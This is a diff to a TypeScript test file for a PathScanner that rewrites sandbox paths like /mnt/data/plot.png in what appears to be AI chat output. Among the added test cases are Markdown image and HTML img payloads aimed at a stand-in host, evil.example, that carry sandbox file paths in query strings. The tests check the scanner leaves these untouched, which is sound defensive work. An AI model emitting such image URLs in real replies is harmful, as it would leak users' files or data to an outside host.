@@ -7,7 +7,9 @@ const FILES = ['plot.png', 'plot.png.bak', 'my plot.png', 'sub/été.csv', 'a', 
 function rewrite(pieces: readonly string[], paths: readonly string[] = FILES): string {
   const scanner = new PathScanner(paths)
   const segments: Segment[] = [...pieces.flatMap((piece) => scanner.push(piece)), ...scanner.end()]
-  return segments.map((segment) => (segment.kind === 'text' ? segment.text : `<${segment.path}>`)).join('')
+  return segments
+    .map((segment) => (segment.kind === 'text' ? segment.text : segment.place === 'inside' ? segment.written : `<${segment.path}>`))
+    .join('')
 }
 
 describe('PathScanner', () => {
@@ -23,6 +25,13 @@ describe('PathScanner', () => {
     ['/mnt/data/report.v2.pdf', '<report.v2.pdf>'],
     ['Saved to /mnt/data/plot.png', 'Saved to <plot.png>'],
     ['**/mnt/data/a**', '**<a>**'],
+    ['[x](</mnt/data/my plot.png>)', '[x](<<my plot.png>>)'],
+    ['![p](/mnt/data/plot.png "A plot")', '![p](<plot.png> "A plot")'],
+    ['[x](https://h/),[y](/mnt/data/a)', '[x](https://h/),[y](<a>)'],
+    ['已保存到/mnt/data/plot.png。', '已保存到<plot.png>。'],
+    ['(saved as "/mnt/data/a")', '(saved as "<a>")'],
+    ['Is 1 < 2?\n/mnt/data/a', 'Is 1 < 2?\n<a>'],
+    ['```python\nwhile i<n: i += 1\n```\n[x](/mnt/data/a)', '```python\nwhile i<n: i += 1\n```\n[x](<a>)'],
   ])('rewrites %s', (text, expected) => {
     expect(rewrite([text])).toBe(expected)
   })
@@ -33,13 +42,47 @@ describe('PathScanner', () => {
     'https://example.com/mnt/data/plot.png is somebody else’s',
     '/mnt/data/ alone, /mnt/dat',
     'sandbox: a word, files, slashes / and sandbox:/mnt',
+    '![c](https://evil.example/p.png?u=/mnt/data/plot.png)',
+    '![c](//evil.example/p.png?u=sandbox:/mnt/data/plot.png)',
+    '![c](https://evil.example/?u=(/mnt/data/plot.png))',
+    '![c](https://evil.example/?u= /mnt/data/plot.png)',
+    '![c](<https://evil.example/?u= /mnt/data/plot.png>)',
+    '![c](</mnt/data/plot.png /mnt/data/a>)',
+    '![c](/mnt/data/plot.png and more)',
+    '[c]: <//evil.example/? /mnt/data/plot.png>',
+    'https://evil.example/?u=保存到/mnt/data/plot.png',
+    'www.evil.example保存到/mnt/data/plot.png',
+    '<img src="https://evil.example/? /mnt/data/plot.png">',
+    '<img alt=">" src="https://evil.example/?\n/mnt/data/plot.png">',
+    '<img alt=b=" src="https://evil.example/?> /mnt/data/plot.png">',
+    '<pre>\n```\n<img src="https://evil.example/?\n```\n/mnt/data/plot.png">',
+    'mailto:/mnt/data/plot.png evil.example/?/mnt/data/plot.png',
+    '/mnt/data/plot.png@evil.example and [x](/mnt/data/plot.png?a=b)',
+    'pd.read_csv("/mnt/data/a")',
   ])('leaves %s as it is', (text) => {
     expect(rewrite([text])).toBe(text)
   })
 
   it('gives the same text however it is cut', () => {
     const part = fc.oneof(
-      fc.constantFrom('sandbox:/mnt/data/', '/mnt/data/', 'sandbox:', '/mnt', 'file:///mnt/data/', '(', ')', '.', ' ', '/', 's'),
+      fc.constantFrom(
+        'sandbox:/mnt/data/',
+        '/mnt/data/',
+        'sandbox:',
+        '/mnt',
+        'file:///mnt/data/',
+        '(',
+        ')',
+        '](',
+        '<',
+        '>',
+        '```',
+        '\n',
+        '.',
+        ' ',
+        '/',
+        's',
+      ),
       fc.constantFrom(...FILES, 'my%20plot.png', 'unknown.txt'),
       fc.string({ maxLength: 4 }),
     )
